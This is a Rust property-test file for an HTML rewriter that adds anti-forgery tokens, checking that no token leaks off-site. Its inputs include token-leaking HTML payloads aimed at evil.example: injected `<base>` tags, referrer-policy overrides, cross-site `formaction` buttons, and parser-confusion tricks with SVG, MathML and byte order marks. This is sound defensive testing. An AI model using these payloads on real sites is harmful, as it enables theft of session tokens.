//! A short proptest pass of the properties the fuzz targets in `fuzz/` check at length (see
//! `tests/properties/mod.rs`): run on every `./scripts/test-all`.

mod properties;

use proptest::prelude::*;

/// URLs near and far from the site, written the ways pages write them.
fn any_url() -> impl Strategy<Value = &'static str> {
    prop_oneof![
        Just("/next"),
        Just(""),
        Just("#top"),
        Just("?q=1&amp;r=2"),
        Just("next"),
        Just("//evil.example/x"),
        Just("https://shop.example/p"),
        Just("http://shop.example/p"),
        Just("https://pay.example/"),
        Just("https://cdn.example:8443/"),
        Just("https://cdn.example/"),
        Just("javascript:alert(1)"),
        Just("https://me@shop.example/"),
        Just("/\\evil.example"),
        Just(" /sp "),
        Just("data:,x"),
        Just("mailto:a@evil.example"),
        Just("HTTPS://SHOP.EXAMPLE/"),
        Just("https://evil.example/?sessionid=1"),
        Just("https://evil.example/"),
        Just("https&colon;//evil.example/"),
        Just("&sol;&sol;evil.example/"),
        Just("https&#58//evil.example/"),
        Just("/&bsol;evil.example/"),
        Just("/&Tab;/evil.example/"),
        Just("x&amp;y"),
        // Character references as the tokenizer decodes them in attributes: legacy names
        // without `;` unless a letter, digit or `=` follows, any case of the few that have
        // one, windows-1252 remapping of C1 numbers.
        Just("/p?x=1&copy"),
        Just("/p?x=1&copy x"),
        Just("/p?a=1&copy=2"),
        Just("/p?a&lt;b&LT;c&AMP;d"),
        Just("/p?q=&notit;&notin;"),
        Just("/p?e=&#x85;&#128;&#0;&#x110000;"),
        Just("https&#x3A;//evil.example/"),
        Just("&#47;&#47;evil.example/"),
        Just("/&NewLine;/evil.example/"),
        // A special scheme without two slashes: a path on the base's host, or on a base of
        // another scheme a host of its own.
        Just("https:next"),
        Just("https:/next"),
        Just("http:&sol;next"),
    ]
}

/// Everything issue 12 names, mixed with ordinary markup: form owners (ids and `form=`,
/// implicit closes by ancestors' end tags, nested and template forms), submitters with
/// `formaction`/`formmethod`, late `<base>`, pings, referrer policies, SVG and MathML, meta
/// charsets and refreshes, raw text, and (rarely) huge tags and huge forms.
fn html_piece() -> impl Strategy<Value = String> {
    let quote = prop_oneof![Just("\""), Just("'"), Just("")];
    let id = prop_oneof![Just(""), Just(" id=f"), Just(" id=g"), Just(" id=\"\"")];
    // Keywords also come spelled with character references, which a browser decodes.
    let owner = prop_oneof![
        Just(""),
        Just(""),
        Just(" form=f"),
        Just(" form=g"),
        Just(" form=&#102;")
    ];
    let kind = prop_oneof![
        Just(""),
        Just(" type=submit"),
        Just(" type=button"),
        Just(" type=reset"),
        Just(" type=bogus"),
        Just(" type=subm&#105;t"),
        Just(" type=\"butt&#x6F;n\"")
    ];
    let method = prop_oneof![
        Just(""),
        Just(" formmethod=get"),
        Just(" formmethod=post"),
        Just(" formmethod=dialog"),
        Just(" formmethod=x"),
        Just(" formmethod=p&#111;st")
    ];
    let policy = prop_oneof![
        Just("unsafe-url"),
        Just("no-referrer-when-downgrade"),
        Just("origin"),
        Just("always"),
        Just("no-referrer"),
        Just("unsafe&#45;url"),
        Just("")
    ];
    let structure = prop_oneof![
        Just("<div>"),
        Just("</div>"),
        Just("<table>"),
        Just("<tr><td>"),
        Just("</td></tr>"),
        Just("</table>"),
        Just("<p>"),
        Just("</p>"),
        Just("<template>"),
        Just("</template>"),
        Just("<select>"),
        Just("</select>"),
        Just("<span>"),
        Just("</span>"),
        Just("<li>"),
        Just("<svg>"),
        Just("</svg>"),
        Just("<math><mi>"),
        Just("</mi></math>"),
        Just("<svg><foreignObject>"),
        Just("</foreignObject></svg>"),
        Just("<frameset>"),
        Just("<meta charset=iso-2022-jp>"),
        Just("<meta charset=utf-8>"),
        Just("</body>"),
        Just("<head>"),
        Just("</head>"),
        Just("<body>"),
        Just("<noscript>"),
        Just("</noscript>"),
        // Raw text that the "in select" mode ignores, and what may follow it.
        Just("<select><style>"),
        Just("</style>"),
        Just("<select><xmp>"),
        Just("</xmp>"),
        Just("<select><title>"),
        Just("</title>"),
        Just("<select><iframe>"),
        Just("</iframe>"),
        Just("<select><noembed>"),
        Just("<select><noframes>"),
        Just("<select><noscript>"),
        Just("<select><svg><![CDATA["),
        Just("]]>"),
        Just("<select><math><mtext><style>"),
        Just("<keygen>"),
        Just("<textarea>"),
        Just("</textarea>"),
        Just("<!--"),
        Just("-->"),
        // What a browser without JavaScript reads in a <noscript>.
        Just("<noscript><form action=https://evil.example/>"),
        Just("<noscript><form method=post>"),
        Just("<noscript><select>"),
        Just("<noscript><!--"),
        Just("<noscript><a href=\""),
    ];
    let huge = prop_oneof![
        Just(format!(
            "<a href=/x data-x=\"{}\">x</a>",
            "a".repeat(1_100_000)
        )),
        Just(format!("<p>{}</p>", "filler ".repeat(40_000))),
    ];
    prop_oneof![
        40 => (0..18usize, any_url(), quote, "[a-z<>&\"' =/]{0,12}", (id, owner, kind, method), (policy.clone(), any_url())).prop_map(
            |(k, url, q, text, (id, owner, kind, method), (policy, ping))| match k {
                0 => format!("<a href={q}{url}{q}>{text}</a>"),
                1 => format!("<a href={q}{url}{q} ping=\"{ping}\">x</a>"),
                2 => format!("<a href={q}{url}{q} referrerpolicy={policy}>x</a>"),
                3 => format!("<form method=post action={q}{url}{q}{id}>"),
                4 => format!("<form method=get{id}>"),
                5 => "</form>".to_owned(),
                6 => format!("<button{kind}{owner} formaction={q}{url}{q}{method}>go</button>"),
                7 => format!("<input type=submit{owner}{method}><input type=image formaction={q}{url}{q}{owner}>"),
                8 => format!("<base href={q}{url}{q}>"),
                9 => format!("<script>var a = '<a href=\"{url}\">{text}';</script><!-- <form method=post> -->"),
                10 => format!("<iframe src={q}{url}{q} referrerpolicy={policy}></iframe>"),
                11 => match text.len() % 3 {
                    0 => format!("<meta http-equiv=refresh content=\"0; url={url}\">"),
                    1 => format!("<meta http-equiv=refresh content=\"0; {url}\">"),
                    _ => format!("<meta http-equiv=refresh content='0; url=\"{url}\" junk'>"),
                },
                12 => format!("<textarea><form method=post>{text}</textarea>"),
                13 => format!("<img src={q}{url}{q} referrerpolicy={policy}><script src={q}{url}{q} referrerpolicy={policy}></script><image src={q}{url}{q} referrerpolicy={policy}>"),
                14 => format!("<area href={q}{url}{q} ping={ping}>"),
                15 => format!("<svg><a xlink:href={q}{url}{q}><text>{text}</text></a></svg>"),
                16 => format!("<meta name=\"r&#101;ferrer\" content={policy}>"),
                _ => format!("<meta name=referrer content={policy}>"),
            },
        ),
        10 => structure.prop_map(str::to_owned),
        1 => proptest::bool::weighted(0.05).prop_flat_map(move |rare| {
            if rare { huge.clone().boxed() } else { Just(String::from("<hr>")).boxed() }
        }),
    ]
}

/// Pages a documented rule never refuses: forms closed where they open, links, frames and
/// refreshes to this site, one `<base>` in the head, submitters that stay here.
fn clean_page() -> impl Strategy<Value = String> {
    let own = prop_oneof![
        Just("/next"),
        Just("next"),
        Just("?q=1"),
        Just("../up"),
        Just("https://shop.example/p"),
        Just("https://pay.example/x"),
        Just("https://cdn.example:8443/y"),
    ];
    let piece = (0..8usize, own.clone(), own, "[a-z ]{0,8}").prop_map(|(k, url, other, text)| match k {
        0 => format!("<a href=\"{url}\">{text}</a>"),
        1 => format!("<form method=post action=\"{url}\"><input name=a><button>go</button><button formaction=\"{other}\">there</button></form>"),
        2 => format!("<form action=\"{url}\"><input name=q></form>"),
        3 => format!("<div><form method=post id=f{}><p>{text}</p></form></div>", text.len()),
        4 => format!("<iframe src=\"{url}\"></iframe>"),
        5 => format!("<meta http-equiv=refresh content=\"5; url={url}\">"),
        6 => format!("<svg><a href=\"{url}\"><text>{text}</text></a></svg>"),
        _ => format!("<p>{text}</p>"),
    });
    (
        proptest::option::of(Just("<base href=\"/a/\">")),
        proptest::collection::vec(piece, 0..12),
    )
        .prop_map(|(base, pieces)| {
            format!(
                "<!doctype html><html><head>{}</head><body>{}</body></html>",
                base.unwrap_or(""),
                pieces.concat()
            )
        })
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(400))]

    #[test]
    fn rewriting_structured_html_keeps_text_and_the_rules(
        pieces in proptest::collection::vec(html_piece(), 0..24),
        cuts in proptest::collection::vec(any::<usize>(), 0..6),
        use_get in any::<bool>(),
    ) {
        properties::check_rewrite(pieces.concat().as_bytes(), &cuts, use_get);
    }

    #[test]
    fn every_same_site_navigation_of_a_clean_page_carries_the_token(
        page in clean_page(),
        cuts in proptest::collection::vec(any::<usize>(), 0..6),
        use_get in any::<bool>(),
    ) {
        properties::check_complete(page.as_bytes(), &cuts, use_get);
    }

    /// Streamed in any cuts, a page comes out as in one chunk; held whole, the plain path writes
    /// lol_html's output (the fuzz target `rewrite_splits`, for a few hundred pages).
    #[test]
    fn any_chunking_writes_the_one_chunk_output(
        pieces in proptest::collection::vec(html_piece(), 0..24),
        cut_bytes in proptest::collection::vec(any::<u8>(), 0..128),
        use_get in any::<bool>(),
    ) {
        let cuts = u8::try_from(cut_bytes.len() / 2).unwrap_or(63).min(63);
        let mut data = vec![cuts | if use_get { 0x80 } else { 0 }];
        data.extend(&cut_bytes[..usize::from(cuts) * 2]);
        data.extend(pieces.concat().as_bytes());
        properties::check_splits(&data);
    }

    #[test]
    fn rewriting_random_bytes_keeps_text_and_the_rules(
        html in proptest::collection::vec(any::<u8>(), 0..400),
        cuts in proptest::collection::vec(any::<usize>(), 0..6),
    ) {
        properties::check_rewrite(&html, &cuts, true);
    }

    #[test]
    fn the_url_policy_keeps_tokens_on_the_site(url in "[a-zA-Z:/\\\\.@#?&=%\\- ]{0,40}") {
        properties::check_url_policy(&url);
    }

    #[test]
    fn the_url_policy_on_urls_near_the_site(
        scheme in prop_oneof![Just("https://"), Just("http://"), Just("//"), Just(""), Just("/\\")],
        host in prop_oneof![Just("shop.example"), Just("pay.example"), Just("cdn.example:8443"), Just("evil.example"), Just("shop.example.evil"), Just("user@shop.example")],
        path in "[a-z/?#&=.]{0,12}",
    ) {
        properties::check_url_policy(&format!("{scheme}{host}{path}"));
    }

    #[test]
    fn tokens_open_nothing_they_should_not(bytes in proptest::collection::vec(any::<u8>(), 0..200)) {
        properties::check_token(&bytes);
    }
}

/// Found by the property above: a browser ignores a `<form>` inside an open form, so a token put
/// into the inner one would be sent by the outer one, here to another site.
#[test]
fn no_token_in_a_form_nested_in_a_form_that_posts_elsewhere() {
    let html = br#"<form action="https://evil.example/c"><form method=post action="/x"><input name=a></form></form>"#;
    for use_get in [false, true] {
        properties::check_rewrite(html, &[], use_get);
        let out = properties::rewrite_in_chunks(html, &[], use_get);
        assert!(!String::from_utf8(out).unwrap().contains(properties::TOKEN));
    }
}

/// The same for an attribute's name: lol_html drops a byte order mark at a name's start (and
/// reads a UTF-16 name after one), so `<form \u{FEFF}method=post>` was a POST form to it and a
/// GET form to every browser, which put the token into the URL (found by `rewrite_html` with the
/// fuzz dictionary). Such a name is another attribute now, as a browser reads it. Each page is
/// judged in every reading, whole and cut anywhere.
#[test]
fn names_starting_with_a_byte_order_mark_are_other_attributes() {
    let mark_then = |mark: &[u8], name: &str| -> Vec<u8> {
        let mut bytes = mark.to_vec();
        match mark {
            b"\xFE\xFF" => bytes.extend(name.encode_utf16().flat_map(u16::to_be_bytes)),
            b"\xFF\xFE" => bytes.extend(name.encode_utf16().flat_map(u16::to_le_bytes)),
            _ => bytes.extend_from_slice(name.as_bytes()),
        }
        bytes
    };
    let around = [
        ("<form ", "method", "=post action=/p><input name=pw></form>"),
        (
            "<form method=post action=/p><input name=pw><button ",
            "formmethod",
            "=get>go</button></form>",
        ),
        (
            "<form method=post ",
            "action",
            "=//evil.example/><input name=pw></form>",
        ),
        ("<a ", "href", "=/next>n</a><a href=/z>z</a>"),
        ("<a href=/n ", "ping", "=//evil.example/p>n</a>"),
    ];
    for mark in [&b"\xEF\xBB\xBF"[..], b"\xFE\xFF", b"\xFF\xFE"] {
        for (before, name, after) in around {
            let mut page = before.as_bytes().to_vec();
            page.extend(mark_then(mark, name));
            page.extend_from_slice(after.as_bytes());
            properties::check_rewrite_cut_anywhere(&page);
        }
    }
}

/// lol_html reads an attribute value that starts with a byte order mark in the mark's encoding,
/// a browser in the page's (found by `rewrite_html`: a link's target changed). A `type` spelled
/// `button` in UTF-16 after the mark is an invalid type to a browser, so that button submits:
/// read as lol_html reads it, its form's token went to another site. Each page is judged in
/// every reading, whole and in chunks.
#[test]
fn values_starting_with_a_byte_order_mark_are_read_as_a_browser_reads_them() {
    let utf16 = |text: &str| -> Vec<u8> {
        let mut bytes = b"\xFE\xFF".to_vec();
        bytes.extend(text.encode_utf16().flat_map(u16::to_be_bytes));
        bytes
    };
    let page = |before: &str, value: &[u8], after: &str| -> Vec<u8> {
        let mut page = before.as_bytes().to_vec();
        page.extend_from_slice(value);
        page.extend_from_slice(after.as_bytes());
        page
    };
    let pages = [
        page(
            "<form method=post action=/x><input name=a><button type=\"",
            &utf16("button"),
            "\" formaction=//evil.example/>go</button></form>",
        ),
        page(
            "<form method=\"",
            &utf16("post"),
            "\" action=/x><input name=a></form>",
        ),
        page("<a href=\"", &utf16("/next"), "\">n</a>"),
        page("<a href=\"\u{FEFF}", b"/next", "\">n</a>"),
        page(
            "<a href=/ok ping=\"",
            &utf16("/p https://evil.example/p"),
            "\">n</a>",
        ),
        page(
            "<iframe srcdoc=\"\u{FEFF}",
            b"<meta name=referrer content=unsafe-url><a href=https://evil.example/>e</a>",
            "\"></iframe>",
        ),
        page(
            "<form method=post><input type=\"",
            &utf16("submit"),
            "\" formaction=https://evil.example/></form>",
        ),
        // The length of a misread value may be the length of the browser's: `FF FE 07` is one
        // U+FFFD to lol_html (three bytes), and two U+FFFD and a BEL to a browser.
        page("<a href=", b"\xFF\xFE\x07", ">n</a>"),
        // A browser reads this `form` as the first form's id; lol_html reads `䉁`.
        page(
            "<form id=\"\u{FFFD}\u{FFFD}AB\" method=post action=/x><input name=a></form><button form=\"",
            b"\xFF\xFEAB",
            "\" formaction=//evil.example/>go</button>",
        ),
        page(
            "<form method=post id=\"",
            b"\xFF\xFEAB",
            "\"><input name=a></form><button form=\"\u{FFFD}\u{FFFD}AB\" formaction=//evil.example/>go</button>",
        ),
    ];
    for page in &pages {
        for use_get in [false, true] {
            properties::check_rewrite(page, &[], use_get);
            properties::check_rewrite(page, &[7, 19, 40], use_get);
            let out = properties::rewrite_in_chunks(page, &[], use_get);
            let shown = String::from_utf8_lossy(&out);
            assert!(
                !shown.contains("next?sessionid="),
                "a token in a misread URL: {shown}"
            );
        }
    }
}

/// Nested foreign content, where lol_html's view and a tree builder's part. A `<template>` that
/// lol_html reads after it, where a tree builder is still in foreign content (`<math>` inside `<svg>` is SVG to it, so `<mtext>` is no
/// integration point): to the browser it is an SVG element, a `<div>` in it breaks out, and a
/// `<base>` or `<form>` after that is the document's. Found by `rewrite_pieces`: the base sent
/// every earlier link's token to evil.example. Each page fails closed in every reading.
#[test]
fn nested_foreign_content_where_lol_html_and_browsers_part() {
    let pages = [
        // An HTML `<title>` inside an SVG `<title>`: at its end tag lol_html leaves the
        // integration point and a browser does not; the third title's text was markup to
        // lol_html, and its form got the token.
        "<svg><title><title>t</title><title><form id=f method=post>",
        // `</svg>` inside the SVG `<title>`: a browser ignores it, lol_html closes both; at the
        // next `</title>` it leaves foreign content it is no longer in, and reads the
        // `<script><!--` after it as SVG, which hid the `<base>` from it.
        r#"<svg><a href="/next">n</a><title></svg><title>t</title><script><!--</script><base href="https://evil.example/">"#,
        // The rewriter empties a text element in nested foreign content; what went was markup
        // to a browser (the `<img>` that takes it out of foreign content), so its tree changed
        // from there: the later POST form stays SVG, the GET form stays open, and a token put
        // into the last form joined the GET one. Tokens stop there now.
        "<svg><noscript><img src=/i></noscript><form method=get><svg><noscript><img src=/i></noscript><form id=f method=post></form><meta name=referrer content=unsafe-url><form id=f method=post>",
        r#"<a href="next">n</a><svg><math><mtext><svg></svg><template><div><base href="https://evil.example/">"#,
        r#"<svg><math><mtext><svg></svg><template><div><form action="https://evil.example/"></div></template></mtext></math></svg><form method=post><input name=a></form>"#,
        // A `<select>` in SVG is SVG to every browser: a `<template>` in its `<title>` is not
        // in one, and stays open at `</title>` (ignored in a template). The `</template >` the
        // rewriter wrote there closed it, and the second link, inert in the template, became
        // a link the first one's adoption changed (`rewrite_pieces`).
        r#"<svg><select><title><a href="<a href=" <button>go</button><template></title><a href="<noscript><iframe src="/ns.html"></iframe></noscript>"#,
        // A self-closed `<svg/>`: every browser leaves it, lol_html's tokenizer does not, and
        // read the `<title>` after it as SVG: the link in its text got the token, and a `<!--`
        // there hid a `<base>` (`rewrite_html`).
        "<svg/><title><a href=s>",
        r#"<a href="x">x</a><svg/><title><!--</title><base href="https://evil.example/">--><a href="/n">n</a>"#,
        // A `<textarea>` or `<script>` in an SVG integration point is HTML to lol_html and to
        // a browser. The rewriter emptied it with lol_html's `set_inner_content`, which moved
        // the text after the next tag instead: a `<meta name=referrer content=unsafe-url>`,
        // text in the textarea, came out live, and the image's `Referer` carried the page's
        // token (`rewrite_pieces`). Its text is now held and judged as other held text is.
        r#"<img src=https://evil.example/i><svg><title><textarea><meta name=referrer content=unsafe-url></textarea><a href="/next">n</a>"#,
        r#"<img src=https://evil.example/i><svg><desc><script><meta name=referrer content=unsafe-url></script><a href="/next">n</a>"#,
        r#"<svg><title><textarea><a href="https://evil.example/">x</a></textarea><p>"#,
        // After the `<img>`, a browser has left both `<svg>`s and reads the `<noscript>` as
        // HTML (with scripting on, text up to `</noscript>`); lol_html is still in one `<svg>`
        // and reads it as SVG, closed by `</svg>`, then a comment that hid the live
        // `<meta name=referrer content=unsafe-url>` from it. With the token in the page's URL,
        // the image's `Referer` carried it (`rewrite_pieces`); a hidden `<base>` moved a link
        // given the token before. The rest is judged whole now.
        "<svg><svg><img src=s:><noscript></svg><!--</noscript><meta name=referrer content=unsafe-url>",
        "<a href=/n>n</a><svg><svg><img src=s:><style></svg><!--</style><base href=https://evil.example/>",
        // The same breakout, then a `<title>`: lol_html names it HTML but reads its text as
        // markup, where a browser reads RCDATA up to `</title>`; a comment, an attribute value
        // or an end tag's attributes hid the `<base>` or `<meta>` after it.
        "<a href=/n>n</a><svg><svg><img src=/i><title><!--</title><base href=https://evil.example/>",
        r#"<a href=/n>n</a><svg><svg><img src=/i><title><x a="</title><base href=https://evil.example/>">"#,
        r#"<a href=/n>n</a><svg><svg><img src=/i><title></p a="</title><base href=https://evil.example/>">"#,
        "<a href=/n>n</a><svg><svg><p><title><!--</title><base href=https://evil.example/>",
        "<svg><svg><img src=s:><title><!--</title><meta name=referrer content=unsafe-url>",
    ];
    for page in pages {
        for use_get in [false, true] {
            properties::check_rewrite(page.as_bytes(), &[], use_get);
            properties::check_rewrite(page.as_bytes(), &[30, 61], use_get);
        }
    }
}

/// The family of the last two `rewrite_pieces` findings, swept whole: a context where
/// lol_html's foreign content may not be a browser's (nested `<svg>`/`<math>`, one in a
/// `<select>`, one closed by another end tag, a self-closed one, integration points), a tag
/// that may take a browser out of it, a text element, a construct in its text that may hide
/// what follows from lol_html (a comment, an attribute value, an end tag's attributes, a CDATA
/// section), then a `<base>` and a `<meta name=referrer>` after the text element's end tag,
/// between a link before and one after. No token may leak in any reading: 123 of these pages
/// (the `<title>` family) leaked before the last fix.
#[test]
fn text_elements_after_foreign_content_breakouts_in_every_combination() {
    let contexts = [
        "<svg><svg>",
        "<math><math>",
        "<svg><math>",
        "<math><svg>",
        "<select><svg>",
        "<select><math>",
        "<svg><select><svg>",
        "<div><svg></div>",
        "<svg/>",
        "<math/>",
        "<svg><title></svg>",
        "<svg><foreignObject><svg>",
        "<math><mtext><svg>",
        "<table><svg>",
        "<svg><desc><svg>",
        "<template><svg><svg>",
        "<svg>",
        "<math>",
        "<select>",
        "<svg><title><title>",
        "<math><mi><mo>",
        "<svg><svg></svg>",
        "<math><annotation-xml encoding=text/html><svg>",
    ];
    let breakouts = [
        "",
        "<img src=/i>",
        "<p>",
        "<div>",
        "<br>",
        "<b>",
        "<table>",
        "<font color=red>",
        "<ul>",
        "<pre>",
        "</p>",
        "</br>",
        "<span>",
        "<center>",
        "<body>",
    ];
    let texts = [
        "title", "style", "script", "textarea", "xmp", "noscript", "noembed", "noframes", "iframe",
    ];
    let hiders = [
        ("<!--", "-->"),
        ("<x a=\"", "\">"),
        ("</p a=\"", "\">"),
        ("<![CDATA[", "]]>"),
    ];
    let payload = "<base href=https://evil.example/><meta name=referrer content=unsafe-url><img src=https://evil.example/i>";
    let mut leaking = Vec::new();
    for context in contexts {
        for breakout in breakouts {
            for text in texts {
                for (hide, unhide) in hiders {
                    let page = format!(
                        "<a href=/n>n</a>{context}{breakout}<{text}>{hide}</{text}>{payload}{unhide}<a href=/m>m</a>"
                    );
                    for use_get in [false, true] {
                        let verdicts = properties::rewrite_verdicts(page.as_bytes(), &[], use_get);
                        if verdicts.iter().any(|verdict| !verdict.leaks.is_empty()) {
                            leaking.push((page.clone(), use_get));
                        }
                    }
                }
            }
        }
    }
    assert!(
        leaking.is_empty(),
        "{} pages leak: {leaking:#?}",
        leaking.len()
    );
}

/// A URL with a special scheme and no two slashes after it (`https:/next`, `https:next`) is read
/// against the base: with a base of the same scheme as a path on its host, with one of another
/// scheme as naming a host itself. The rewriter took such a URL for absolute, so a `<base>`
/// after the link or form it gave the token sent the token to that base's host, or to `next`
/// (found by `rewrite_html`). Each page failed before the fix.
#[test]
fn special_scheme_urls_without_two_slashes_follow_a_later_base() {
    let urls = [
        "https:/next",
        "https:next",
        "HTTPS:next",
        "https:\\next",
        "https:?q",
        "https:\t/next",
        "http:next",
        "https:/\\example.com/x",
        "https://example.com/x",
    ];
    for url in urls {
        for base in ["https://evil.example/", "http://evil.example/"] {
            let page = format!(
                r#"<a href="{url}">n</a><base href="{base}"><form method=post action="{url}"><input name=a></form>"#
            );
            for use_get in [false, true] {
                properties::check_rewrite(page.as_bytes(), &[], use_get);
            }
        }
    }
}

/// lol_html gave up at its memory bound (a 1.1 MB tag cut across two chunks) in the chunk that
/// also held a start tag it misreads: the rewriter wrote that chunk in two parts, and the part
/// after the misread tag was neither rewritten nor passed through (found by
/// `rewriting_structured_html_keeps_text_and_the_rules`). Everything passes through now.
#[test]
fn nothing_is_lost_where_lol_html_gives_up_before_a_misread_tag() {
    let page = format!(
        r#"<a href=/x data-x="{}">x</a><iframe src="/p" referrerpolicy=></iframe><p>end"#,
        "a".repeat(1_100_000)
    );
    let (out, ending) = properties::rewrite_and_tell(page.as_bytes(), &[1], false);
    assert!(ending.gave_up, "lol_html gives up at the long tag");
    assert!(out == page.as_bytes(), "the page passes through whole");
}

/// A formatting element left in the list of active ones (`<p><b>x<form>`: the `<form>` tag
/// closes the `<p>`, and the `<b>` with it) is made again inside the form by the first control
/// or text in it, and stays open after `</form>`: a submitter after the form still belongs to
/// it. lol_html cannot follow that list; it saw the form close cleanly, and the rewriter
/// released it, so a cross-site submitter after it sent the form's token away (found while
/// checking the text-only fuzz family of `rewrite_html-formatting-reconstructed-in-form.bin`,
/// which assumed no leak). Where a page held whole names `formaction` or `formmethod`, every
/// form with the token closed after a formatting element is held to the end now; in a stream,
/// a submitter lol_html sees in no form after a form released with the token is given none.
/// Swept streamed, whole and plain: formatting elements, what closes them, forms, submitters
/// after, both link modes (leaks and link targets; the text change the token input causes
/// there is the open finding).
#[test]
fn a_submitter_after_a_form_a_formatting_element_reopens_in_gets_no_token() {
    let formatting = [
        "<b>",
        "<i>",
        "<font color=red>",
        "<a href=/a>",
        "<nobr>",
        "<strong><em>",
    ];
    let closers = [
        ("<p>", ""),
        ("<div>", "</div>"),
        ("<p>", "</p>"),
        ("<ul><li>", "</ul>"),
        ("<table><tr><td>", "</td></tr></table>"),
    ];
    let forms = [
        "<form method=post action=/p></form>",
        "<form method=post action=/p>Name: <input name=n></form>",
        "<form method=get action=/g></form>",
        "<form id=f method=post></form>",
    ];
    let after = [
        "<button formaction=//evil.example/b>go</button>",
        "<input type=submit formaction=https://evil.example/i>",
        "<button formmethod=get>go</button>",
        "<input type=image formaction=//evil.example/m src=/i.png>",
        "<div><button formaction=//evil.example/d>go</button></div>",
    ];
    let mut pages = 0;
    for element in formatting {
        for (open, close) in closers {
            for form in forms {
                for tail in after {
                    let page = format!("{open}{element}x{close}{form}{tail}");
                    for use_get in [false, true] {
                        assert_no_leak_nor_move_anywhere(&page, use_get);
                        pages += 1;
                    }
                }
            }
        }
    }
    assert_eq!(pages, 1200);
}

/// The same inside the form: a formatting element opened in the form and closed by another
/// element's end tag (`<form><p><b>y</p>x</form>`) stays in the list of active ones, the text
/// or control after that end tag makes it again as the form's child, and the form's `</form>`
/// leaves it open: a submitter after the form is inside the form (found while writing the
/// stream's half of the fix above; the form had been held only when a formatting element came
/// before its start tag). Swept streamed, whole and plain: formatting elements, the elements
/// that close them inside the form, what comes after, forms, submitters after (two in tags
/// lol_html cannot write back), both link modes.
#[test]
fn a_formatting_element_closed_inside_a_form_keeps_later_submitters_in_it() {
    let formatting = ["<b>", "<i>", "<a href=/a>", "<font size=2>", "<strong><em>"];
    let closers = [
        ("<p>", "</p>"),
        ("<div>", "</div>"),
        ("<ul><li>", "</ul>"),
        ("<p>", "<div>"),
    ];
    let inside = ["x", "<input name=n>", "<span>x</span>"];
    let forms = [
        ("<form method=post action=/p>", "</form>"),
        ("<form method=get action=/g>", "</form>"),
        ("<div><form id=f method=post>", "</form></div>"),
    ];
    let after = [
        "<button formaction=//evil.example/b>go</button>",
        "<input type=submit formaction=https://evil.example/i>",
        "<button formmethod=get>go</button>",
        // Tags lol_html cannot write back (an attribute named `=x`).
        "<button =x formaction=//evil.example/b>go</button>",
        "<input =x type=submit formaction=https://evil.example/i>",
    ];
    let mut pages = 0;
    for element in formatting {
        for (open, close) in closers {
            for rest in inside {
                for (form, end) in forms {
                    for tail in after {
                        let page = format!("{form}{open}{element}y{close}{rest}{end}{tail}");
                        for use_get in [false, true] {
                            assert_no_leak_nor_move_anywhere(&page, use_get);
                            pages += 1;
                        }
                    }
                }
            }
        }
    }
    assert_eq!(pages, 1800);
}

/// Formatting elements whose end a reader of tags alone cannot judge as a tree builder does:
/// an end tag the tree builder ignores (behind a table cell's or an `<object>`'s marker, out of
/// scope past a `<table>`, in a `<select>`), and formatting elements in text some browser
/// reads as markup (`<noscript>` for a visitor without JavaScript: its `</noscript>` is ignored
/// behind the `<p>`, and the `<form>` closes the `<p>` and the `<b>`). Written while trying to
/// follow the list in a stream (BENCHMARKS.md: not kept); held whole, the form closed after
/// them is held to the end, and streamed the submitter is given no form. Each page in both
/// quirks and standards mode.
#[test]
fn formatting_elements_whose_end_lol_html_cannot_judge_keep_forms_held() {
    let before = [
        "<p><b><table><td></b></td></table>",
        "<p><b><table><caption></b></caption></table>",
        "<p><i><object></i></object>",
        "<p><u><select></u></select>",
        "<p><a href=/a><svg><title></a></title></svg>",
        "<noscript><p><b>x</noscript>",
        "<noscript><p><font color=red>x</noscript>",
        "<noscript><p><b><object></b></object>x</noscript>",
    ];
    let forms = [
        "<form method=post action=/p>y</form>",
        "<form method=post action=/p><input name=n></form>",
    ];
    let after = [
        "<button formaction=//evil.example/b>go</button>",
        "<input type=submit formaction=https://evil.example/i>",
    ];
    let mut pages = 0;
    for doctype in ["", "<!DOCTYPE html>"] {
        for start in before {
            for form in forms {
                for tail in after {
                    let page = format!("{doctype}{start}{form}{tail}");
                    for use_get in [false, true] {
                        assert_no_leak_nor_move_anywhere(&page, use_get);
                        pages += 1;
                    }
                }
            }
        }
    }
    assert_eq!(pages, 128);
}

/// No token leaves and no link moves in the page streamed (cut in the middle), held whole and on
/// the plain path; the text the token input changes (the open formatting finding) is not
/// judged.
fn assert_no_leak_nor_move_anywhere(page: &str, use_get: bool) {
    let cut = [page.len() / 2];
    for verdict in properties::rewrite_verdicts(page.as_bytes(), &cut, use_get) {
        assert_none_leaks_nor_moves(page, use_get, &verdict);
    }
}

#[track_caller]
fn assert_none_leaks_nor_moves(page: &str, use_get: bool, verdict: &properties::Verdict) {
    assert!(
        verdict.leaks.is_empty() && verdict.target_changed.is_none(),
        "use_get {use_get}: {page}: {verdict:#?}"
    );
}

/// A tag that breaks out of foreign content (`<svg><table>`): a browser pops every foreign
/// element there, lol_html's element stack keeps them and closes them at their end tags, so
/// the two stacks differ from there. In `<svg><table></svg><svg></table><textarea><!--` the
/// browser's `</table>` closed the second `<svg>`, lol_html stayed in it and read a comment in
/// the textarea's text, which hid the `<meta name=referrer content=unsafe-url>` after it (found
/// by `rewrite_pieces`: the page's URL, token and all, went to another site). Swept: foreign
/// roots, breakout tags, what closes them, foreign content again, end tags a browser reads as
/// HTML there, constructs that hide markup from a reader in foreign content, what they hide;
/// both link modes, held whole, on the plain path and streamed.
#[test]
fn a_tag_breaking_out_of_foreign_content_stops_every_token() {
    let roots = ["<svg>", "<math>"];
    let breakouts = [
        "<table>",
        "<p>",
        "<div>",
        "<img src=/i.png>",
        "<font color=red>",
    ];
    let closers = ["</svg>", "</math>", ""];
    let again = ["<svg>", "<math><mi><svg>"];
    let ends = ["</table>", "</p>", "</div>"];
    let hiders = ["<textarea><!--</textarea>", "<style><!--</style>"];
    let tails = [
        "<meta name=referrer content=unsafe-url><a href=/n>n</a>",
        "<base href=https://evil.example/><a href=/n>n</a>",
        "<form method=post action=/p><input name=a></form><a href=/n>n</a>",
    ];
    let mut pages = 0;
    for root in roots {
        for breakout in breakouts {
            for close in closers {
                for foreign in again {
                    for end in ends {
                        for hider in hiders {
                            for tail in tails {
                                let page = format!(
                                    "<img src=https://evil.example/i>{root}{breakout}{close}\
                                     {foreign}{end}{hider}{tail}"
                                );
                                for use_get in [false, true] {
                                    assert_no_leak_nor_move_anywhere(&page, use_get);
                                    pages += 1;
                                }
                            }
                        }
                    }
                }
            }
        }
    }
    assert_eq!(pages, 2160);
}

